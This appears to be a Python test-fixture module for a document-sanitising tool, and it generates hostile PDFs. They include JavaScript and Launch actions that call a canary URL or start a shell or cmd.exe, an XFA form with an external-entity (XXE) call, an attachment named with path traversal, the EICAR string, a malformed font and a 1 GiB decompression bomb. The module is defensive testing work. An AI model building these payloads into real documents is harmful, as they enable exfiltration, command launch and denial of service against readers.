"""Hostile PDFs that act: scripts, calls to the outside, what they carry, locks, lies about themselves."""

import io
import struct
from collections.abc import Callable

import pikepdf

from safeconduct.evidence import papers
from tests.hostile.files.kinds import EICAR, MARKER, PIXELS, Canary, Gallery
from tests.hostile.files.pdf_writing import CATALOG, DRAWING, GIB, PAGES, bomb, drawn, page, stream, written

acting_pdfs = Gallery()


ACTIONS = {
    "a script": b"/S/JavaScript/JS(%s; app.launchURL\\('{url}'\\); this.submitForm\\('{url}'\\))" % MARKER,
    "a program to start": b"/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc %s)>>" % MARKER,
    "an address to open": b"/S/URI/URI({url})",
    "a form to send": b"/S/SubmitForm/F<</FS/URL/F({url})>>/Flags 4",
    "data to import": b"/S/ImportData/F<</FS/URL/F({url})>>",
    "another file to show": b"/S/GoToR/F<</FS/URL/F({url})>>/D[0/Fit]",
    "a film from elsewhere": b"/S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D<</FS/URL/F({url})>>>>>>",
}


def _acts(action: bytes) -> Callable[[Canary], bytes]:
    def make(canary: Canary) -> bytes:
        act = b"<<" + action.replace(b"{url}", canary.url) + b">>"
        catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/AA<</WC 5 0 R/DS 5 0 R>>>>"
        link = b"<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A 5 0 R/AA<</PO 5 0 R/PV 5 0 R>>>>"
        return drawn(act, link, words=b"/AA<</O 5 0 R>>/Annots[6 0 R]", catalog=catalog)

    return make


for _name, _action in ACTIONS.items():
    acting_pdfs(f"pdf with {_name}", PIXELS)(_acts(_action))


@acting_pdfs("pdf whose streams lie elsewhere", PIXELS, "Damaged")
def elsewhere(canary: Canary) -> bytes:
    address = b"<</FS/URL/F(%s)>>" % canary.url
    words = b"<</Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/F %s/Length 0>>"
    image = words + b"stream\n\nendstream"
    secret = b"<</Type/Filespec/F(%s)>>" % canary.secret.encode()
    words = b"/Resources<</XObject<</I 5 0 R/J 6 0 R>>>>"
    return drawn(image % address, image % secret, words=words, contents=stream(b"/I Do /J Do"))


@acting_pdfs("pdf with a form of the other kind (XFA) that calls out", PIXELS)
def xfa(canary: Canary) -> bytes:
    words = b"<!DOCTYPE a [<!ENTITY e SYSTEM '%s'>]>"
    words += b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><a href='%s'>&e;%s</a></xdp:xdp>"
    form = stream(words % (canary.url, canary.url, MARKER))
    return drawn(
        b"<</Fields[]/XFA 6 0 R>>", form, catalog=b"<</Type/Catalog/Pages 2 0 R/AcroForm 5 0 R/NeedsRendering true>>"
    )


@acting_pdfs("pdf that carries a program and EICAR", PIXELS)
def carries() -> bytes:
    kept = io.BytesIO()
    with pikepdf.open(io.BytesIO(papers.pdf("Счёт"))) as document:
        document.attachments["../../x.exe"] = pikepdf.AttachedFileSpec(document, b"MZ" + MARKER)
        document.attachments["eicar.com"] = pikepdf.AttachedFileSpec(document, EICAR)
        document.save(kept, compress_streams=False)
    return kept.getvalue()


def locked(how: int) -> bytes:
    kept = io.BytesIO()
    with pikepdf.open(io.BytesIO(papers.pdf("тайна"))) as document:
        document.save(kept, encryption=pikepdf.Encryption(owner="x", user="y", R=how))
    return kept.getvalue()


@acting_pdfs("pdf locked with AES-256", "Locked")
def locked_well() -> bytes:
    return locked(6)


@acting_pdfs("pdf locked with RC4", "Locked")
def locked_badly() -> bytes:
    with_warning = pikepdf.Encryption(owner="x", user="y", R=3, aes=False, metadata=False)
    kept = io.BytesIO()
    with pikepdf.open(io.BytesIO(papers.pdf("тайна"))) as document:
        document.save(kept, encryption=with_warning)
    return kept.getvalue()


@acting_pdfs("pdf locked by somebody unknown", "Damaged", "Locked")
def locked_oddly() -> bytes:
    lock = b"<</Filter/Nobody/V 99/R 99/Length 99999/O(x)/U(y)/P -1>>"
    return written(CATALOG, PAGES, page(), DRAWING, lock, trailer=b"/Encrypt 5 0 R/ID[(a)(b)]")


@acting_pdfs("pdf with a font of nothing but lies", PIXELS, "Damaged")
def font() -> bytes:
    tables = b"".join(
        struct.pack(">4sIII", tag, 0, 0xFFFFFFF0, 0xFFFFFFFF) for tag in (b"glyf", b"loca", b"cmap", b"head")
    )
    program = struct.pack(">IHHHH", 0x00010000, 4, 64, 2, 0) + tables + b"\xff" * 4000
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/X/FirstChar 0/LastChar 255/FontDescriptor 6 0 R>>"
    about = b"<</Type/FontDescriptor/FontName/X/Flags 4/FontBBox[0 0 1e9 1e9]/FontFile2 7 0 R>>"
    words = b"/Resources<</Font<</F 5 0 R>>>>"
    return drawn(font, about, stream(program), words=words, contents=stream(b"BT /F 1e9 Tf (xyz) Tj ET"))


@acting_pdfs("pdf that says what it is after a page of nonsense", "UnknownFile", "Damaged", PIXELS, "NotTaken")
def late_head() -> bytes:
    return b"\x00nonsense " * 100 + drawn()


@acting_pdfs("pdf whose colour is a profile of 1 GiB", PIXELS, "Damaged", heavy=True)
def profile() -> bytes:
    packed, words = bomb(b"\0", GIB, 2)
    resources = b"/Resources<</ColorSpace<</C[/ICCBased 5 0 R]>>>>"
    contents = stream(b"/C cs 1 0 0 sc 0 0 300 300 re f")
    return drawn(stream(packed, b"/N 3" + words), words=resources, contents=contents)
